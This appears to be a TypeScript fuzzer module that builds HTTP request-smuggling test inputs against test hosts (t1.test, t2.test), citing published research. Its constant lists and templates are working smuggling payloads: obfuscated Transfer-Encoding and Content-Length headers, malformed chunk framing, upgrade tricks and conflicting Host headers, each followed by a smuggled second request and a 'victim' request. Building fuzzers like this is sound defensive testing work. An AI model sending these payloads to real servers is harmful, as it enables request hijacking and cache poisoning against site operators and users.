import type { FuzzRandom, NonEmpty } from '../fuzz-random.ts';

// Request smuggling as published (Linhart 2005, Kettle 2019 to 2025, RFC 9112 section 11.2): two
// statements about where a body ends, one of them disguised, and a second request in the part that
// the two readings dispute.

const SMUGGLED: NonEmpty<string> = [
  'GET /smuggled HTTP/1.1\r\nHost: t2.test\r\n\r\n',
  'GET /smuggled HTTP/1.1\r\nHost: t1.test\r\nX: ',
  'POST /smuggled HTTP/1.1\r\nHost: t2.test\r\nContent-Length: 10\r\n\r\n',
  'G',
];

const CODINGS: NonEmpty<string> = [
  'Transfer-Encoding: chunked', 'Transfer-Encoding:chunked', 'Transfer-Encoding : chunked',
  'Transfer-Encoding: xchunked', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
  'Transfer-Encoding: x\r\nTransfer-Encoding: chunked', 'Transfer-Encoding:\tchunked',
  'Transfer-Encoding: \tchunked', ' Transfer-Encoding: chunked',
  'X: X\nTransfer-Encoding: chunked', 'X: X\rTransfer-Encoding: chunked',
  'Transfer-Encoding\n: chunked', 'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked', 'Transfer-Encoding: CHUNKED',
  'Transfer-Encoding: chunke\x64', 'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding: "chunked"', 'Transfer-Encoding:\vchunked', 'Transfer-Encoding:\xa0chunked',
  'Transfer-Encoding: chunked\0', 'Transfer_Encoding: chunked', 'Transfer-Encoding: chunked\x0b',
  'Transfer-Encoding\x00: chunked', 'Foo: bar\r\n\rTransfer-Encoding: chunked',
  'tRANSFER-eNCODING: chunked', 'Transfer-Encoding: chunked;x=y', 'Transfer-Encoding:',
  'Transfer-Encoding: cow, chunked',
  'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
]; // prettier-ignore

const SIZES: NonEmpty<string> = [
  '5', '5 ', '5;', '5;a=b', '5;\n', '5;a\n', '0x5', '+5', '5\r', '5\n', '5;a="\r\n"', '05',
  '5\t', '5_', '5g', '', '-5', '5;\0', '100000005', '10000000000000005',
]; // prettier-ignore
const LAST_CHUNKS: NonEmpty<string> = [
  '0\r\n\r\n', '0\n\n', '0\r\n', '00\r\n\r\n', '0;a\r\n\r\n', '0\r\nX: y\r\n\r\n',
  '0\r\nX: y\n\r\n', '0\r\n\n', '0\r\nContent-Length: 3\r\n\r\n', '-0\r\n\r\n', '0\r\n \r\n\r\n',
]; // prettier-ignore
const VERSIONS: NonEmpty<string> = [
  'HTTP/1.1', 'HTTP/1.0', 'HTTP/0.9', 'HTTP/2.0', 'http/1.1', 'HTTP/1.10', 'HTTP/01.1', '',
  'HTTP/1.1 ', 'HTTP/1.1 x', 'HTTP\t/1.1',
]; // prettier-ignore
const SECOND_HOSTS: NonEmpty<string> = [
  'Host: t2.test', ' Host: t2.test', 'Host : t2.test', 'Host:\r\n t2.test',
  'X: y\nHost: t2.test', 'Host\0: t2.test', 'X-Forwarded-Host: t2.test', 'X-Tenant-Id: t2',
  'X_Tenant_Id: t2', 'Connection: Host',
]; // prettier-ignore
const TARGETS: NonEmpty<string> = [
  '/g', 'http://t2.test/g', 'http://t1.test/g', '//t2.test/g', 'http://t1.test@t2.test/g',
  '@t2.test/g', 't2.test:80', 'http:/g', '/\\t2.test',
]; // prettier-ignore
const EXPECTATIONS: NonEmpty<string> = [
  '100-continue', '100-Continue', '100-continue, x', 'y 100-continue', ' 100-continue',
]; // prettier-ignore

const lengthLine = (bytes: number, random: FuzzRandom): string =>
  random.pick([
    `Content-Length: ${bytes}`, `Content-Length: ${bytes}`, `content-length:${bytes}`,
    `Content-Length : ${bytes}`, `Content-Length: +${bytes}`,
    `Content-Length: ${bytes}, ${bytes}`, `Content-Length: 0\r\nContent-Length: ${bytes}`,
    `Content-Length: ${bytes}\r\nContent-Length: 0`, `Content-Length: \v${bytes}`,
    `Content-Length: 0${bytes}`, `Content-Length: 0x${bytes.toString(16)}`,
    `Content_Length: ${bytes}`, `Content-Length: ${bytes}\xa0`, `Content-Length:\r\n ${bytes}`,
    `Connection: Content-Length\r\nContent-Length: ${bytes}`, `Content-Length: ${bytes}.0`,
    `Content-Length\0: ${bytes}`, `X: y\nContent-Length: ${bytes}`,
  ]); // prettier-ignore

type Template = (random: FuzzRandom, smuggled: string) => string;

const post = (lines: string, body: string): string =>
  `POST /p HTTP/1.1\r\nHost: t1.test\r\n${lines}\r\n\r\n${body}`;
const upgrade = (target: string, lines: readonly string[]): string =>
  `GET ${target} HTTP/1.1\r\nHost: t1.test\r\n${lines.join('\r\n')}\r\n\r\n`;
const chunk = (text: string): string => `${text.length.toString(16)}\r\n${text}\r\n`;

const TEMPLATES: NonEmpty<Template> = [
  // CL.TE: the front reads the length, the back the chunks.
  (random, smuggled) => {
    const body = `0\r\n\r\n${smuggled}`;
    return post(`${lengthLine(body.length, random)}\r\n${random.pick(CODINGS)}`, body);
  },
  // TE.CL: the other way round.
  (random, smuggled) =>
    post(`${random.pick(CODINGS)}\r\n${lengthLine(4, random)}`, `${chunk(smuggled)}0\r\n\r\n`),
  // TE.TE: two codings, one of them disguised.
  (random, smuggled) =>
    post(`${random.pick(CODINGS)}\r\n${random.pick(CODINGS)}`, `0\r\n\r\n${smuggled}`),
  // CL.0 and 0.CL: one side ignores the body.
  (random, smuggled) => post(lengthLine(smuggled.length, random), smuggled),
  (random, smuggled) =>
    `GET /g HTTP/1.1\r\nHost: t1.test\r\n${lengthLine(smuggled.length, random)}\r\n\r\n${smuggled}`,
  // Disguised coding alone.
  (random, smuggled) => post(random.pick(CODINGS), `${chunk('hello')}0\r\n\r\n${smuggled}`),
  // Chunk sizes, extensions and ends that one side reads differently.
  (random, smuggled) => {
    const size = random.pick(SIZES);
    const end = random.pick(['\r\n', '\r\n', '\n', '', 'XX', '\r', '\r\n\r\n']);
    const last = random.pick(LAST_CHUNKS);
    return post('Transfer-Encoding: chunked', `${size}\r\nhello${end}${last}${smuggled}`);
  },
  // Request lines with room for a second one; other versions.
  (random, smuggled) => {
    const version = random.pick(VERSIONS);
    const gap = random.pick([' ', '  ', '\t', '\v', '\xa0', '']);
    return `GET${gap}/g${gap}${version}\r\nHost: t1.test\r\n\r\n${smuggled}`;
  },
  // The preface of HTTP/2, an upgrade to it, and a tunnel that must not be one.
  (_, smuggled) => `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${smuggled}`,
  (_, smuggled) =>
    upgrade('/g', [
      'Connection: Upgrade, HTTP2-Settings',
      'Upgrade: h2c',
      'HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA',
    ]) + smuggled,
  (_, smuggled) =>
    upgrade('/ws', ['Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 777']) +
    smuggled,
  // Two hosts in disagreement.
  (random, smuggled) => {
    const second = random.pick(SECOND_HOSTS);
    const target = random.pick(TARGETS);
    return `GET ${target} HTTP/1.1\r\nHost: t1.test\r\n${second}\r\n\r\n${smuggled}`;
  },
  // Expect, where the body may or may not follow.
  (random, smuggled) => {
    const expect = random.pick(EXPECTATIONS);
    return post(`Expect: ${expect}\r\n${lengthLine(smuggled.length, random)}`, smuggled);
  },
];

/** A smuggling attempt; what follows it on the connection is a victim's request. */
export function smugglingAttempt(random: FuzzRandom): string {
  const smuggled = random.pick(SMUGGLED);
  const victim = random.chance(0.6) ? 'GET /victim HTTP/1.1\r\nHost: t1.test\r\n\r\n' : '';
  return random.pick(TEMPLATES)(random, smuggled) + victim;
}
